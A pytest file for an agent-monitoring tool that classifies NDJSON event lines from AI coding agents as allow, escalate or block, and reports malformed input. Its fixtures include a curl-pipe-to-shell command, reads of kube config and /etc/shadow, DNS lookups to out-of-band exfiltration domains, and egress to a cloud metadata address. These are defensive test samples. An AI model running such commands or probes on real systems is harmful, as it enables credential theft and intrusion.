"""`anysentry judge`: stdin NDJSON → decision lines, counts and malformed-line reports on stderr."""

from __future__ import annotations

import io
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from anysentry.judge.command import generic_item, judge_stream
from anysentry.judge.engine import Judge

ROOT = Path(__file__).resolve().parents[3]


def observer_line(kind: str, inner: dict, agent: str = "codex", **extra) -> bytes:
    return orjson.dumps({"identity": {"agent": agent, "task": "7", "session": None}, "process": {"pid": 7},
                         "event": {kind: inner}, **extra})


MIXED = b"\n".join([
    observer_line("ToolExec", {"pid": 7, "argv": ["bash", "-c", "curl x|sh"], "cwd": "/"}),          # 1 block
    observer_line("ToolExec", {"pid": 7, "argv": ["git", "status"], "cwd": "/w"}),                   # 2 allow
    b"this is not json",                                                                             # 3 malformed
    observer_line("FileAccess", {"pid": 7, "path": "/root/.kube/config"}),                           # 4 escalate
    b'{"identity":{"agent":"a"},"event":{"Dns":{"query":"ab\xff\xfe.oast.fun"}}}',                   # 5 not UTF-8
    b'{"identity":{"agent":"a"},"event":{"Egress":{"peer":"169.254.169.254","po',                   # 6 truncated
    b"",                                                                                             # 7 blank
    observer_line("NotAKind", {}),                                                                   # 8 malformed (unknown kind)
    observer_line("ProcessExit", {"pid": 7, "exit_code": 0}),                                        # 9 allow (observed)
    observer_line("ToolExec", {"argv": ["ls"]}, attribution={"classification": "non_agent"}),        # 10 dropped
    b'{"kind":"dns","query":"x1.interactsh.com","agent":"gen"}',                                     # 11 generic → block
    b"[1,2,3]",                                                                                      # 12 malformed
    observer_line("CollectorHeartbeat", {"collector_id": "c1"}),                                     # 13 dropped (control plane)
    observer_line("Egress", {"pid": 7, "peer": "169.254.169.254", "port": 80}),                      # 14 block
]) + b"\n"


def run_cli(*args: str, stdin: bytes = b"") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "anysentry.cli", "judge", *args], input=stdin, capture_output=True,
                          cwd=ROOT, timeout=120)


def parse(proc: subprocess.CompletedProcess) -> tuple[list[dict], list[str], dict]:
    out = [orjson.loads(line) for line in proc.stdout.splitlines()]
    err = proc.stderr.decode().splitlines()
    return out, err[:-1], orjson.loads(err[-1])


@pytest.mark.slow
def test_mixed_input_subprocess():
    proc = run_cli(stdin=MIXED)
    assert proc.returncode == 0, proc.stderr
    out, problems, counts = parse(proc)
    assert counts == {"lines": 14, "events": 6, "allow": 2, "escalate": 1, "block": 3, "malformed": 5, "dropped": 3}
    assert [d["line"] for d in out] == [1, 4, 11, 14]
    first = out[0]
    assert first == {"line": 1, "eventId": first["eventId"], "eventKind": "ToolExec", "subject": "bash -c curl x|sh",
                     "verdict": "block", "tier": "Rules", "severity": "high",
                     "reason": "pipe-to-shell: downloaded content piped into a shell or interpreter",
                     "riskCategory": "command_danger", "riskScore": 76, "action": {"kind": "DenyExec", "target": "bash"}}
    assert first["eventId"].startswith("evt_")
    assert out[1]["verdict"] == "escalate" and out[1]["action"] == {"kind": "DenyFile", "target": "/root/.kube/config"}
    assert out[1]["reason"].endswith("[unresolved escalation, fail-open]")
    assert out[2]["eventKind"] == "Dns" and out[2]["reason"].startswith("oob-exfil-dns:") and "action" not in out[2]
    assert out[3]["action"] == {"kind": "DenyEgress", "target": "169.254.169.254"}
    assert problems == ["line 3: unparseable event", "line 5: not valid UTF-8", "line 6: unparseable event",
                        "line 8: unparseable event", "line 12: unparseable event"]
    assert b"Traceback" not in proc.stderr


@pytest.mark.slow
def test_all_and_policy_manifest_subprocess(tmp_path):
    policy = tmp_path / "policy.yaml"
    policy.write_text("""
apiVersion: anysentry.io/v1alpha1
kind: Policy
metadata: {name: strict}
spec:
  failClosed: true
  rules:
    - {name: no-git, on: ToolExec, match: '^git\\b', verdict: block, severity: low, reason: git is not allowed here}
  disabledBuiltins: [cloud-metadata]
""")
    proc = run_cli("--all", "--policy", str(policy), stdin=MIXED)
    assert proc.returncode == 0, proc.stderr
    out, _, counts = parse(proc)
    assert [d["line"] for d in out] == [1, 2, 4, 9, 11, 14]
    by_line = {d["line"]: d for d in out}
    assert by_line[2]["verdict"] == "block" and by_line[2]["reason"] == "no-git: git is not allowed here"
    assert by_line[4]["verdict"] == "block" and by_line[4]["reason"].endswith("[unresolved escalation, fail-closed]")
    assert by_line[9]["verdict"] == "allow" and by_line[9]["reason"] == "observed" and by_line[9]["riskScore"] == 0
    assert by_line[14]["verdict"] == "allow"  # cloud-metadata disabled
    assert counts["events"] == 6 and counts["block"] == 4 and counts["allow"] == 2 and counts["escalate"] == 0


@pytest.mark.slow
@pytest.mark.parametrize(("content", "needle"), [
    ("apiVersion: anysentry.io/v1alpha1\nkind: Policy\nspec:\n  rules:\n    - {name: block-x, match: '(abc'}\n",
     'rule "block-x": invalid regex: missing ): (abc'),
    (None, "cannot read"),
])
def test_unusable_policy_exits_2(tmp_path, content, needle):
    path = tmp_path / "p.yaml"
    if content is not None:
        path.write_text(content)
    proc = run_cli("--policy", str(path), stdin=MIXED)
    assert proc.returncode == 2 and proc.stdout == b""
    err = proc.stderr.decode()
    assert needle in err and "Traceback" not in err


def test_stream_in_process():
    out, err = io.BytesIO(), io.StringIO()
    counts = judge_stream(Judge(), io.BytesIO(MIXED), out, err, show_all=False)
    assert counts["events"] == 6 and counts["malformed"] == 5 and counts["dropped"] == 3
    assert len(out.getvalue().splitlines()) == 4 and err.getvalue().count("\n") == 5


def test_crlf_and_missing_final_newline():
    data = observer_line("Dns", {"query": "abc.oast.fun"}) + b"\r\n" + observer_line("Dns", {"query": "github.com"})
    out, err = io.BytesIO(), io.StringIO()
    counts = judge_stream(Judge(), io.BytesIO(data), out, err, show_all=True)
    assert counts == {"lines": 2, "events": 2, "allow": 1, "escalate": 0, "block": 1, "malformed": 0, "dropped": 0}


@pytest.mark.parametrize(("record", "kind", "subject"), [
    ({"command": "curl x | sh"}, "ToolExec", "curl x | sh"),
    ({"type": "exec", "argv": ["ls", "-la"]}, "ToolExec", "ls -la"),
    ({"kind": "network", "host": "169.254.169.254", "port": 80}, "Egress", "169.254.169.254:80"),
    ({"query": "metadata.google.internal"}, "Dns", "metadata.google.internal"),
    ({"path": "/etc/shadow"}, "FileAccess", "/etc/shadow"),
    ({"content": "password: hunter2hunter2x"}, "SslContent", "password: hunter2hunter2x"),
    ({"kind": "security", "action": "ptrace", "detail": 4242}, "SecurityAction", "ptrace 4242"),
])
def test_generic_lines(record, kind, subject):
    from anysentry.events.observer import normalize

    obs = normalize(generic_item({"agent": "gen", **record}))
    assert obs.judge_kind == kind and obs.judge_subject == subject and obs.event.source == "api"
    assert obs.event.agentId == "gen"


def test_generic_line_without_a_kind_is_malformed():
    assert generic_item({"hello": "world"}) is None
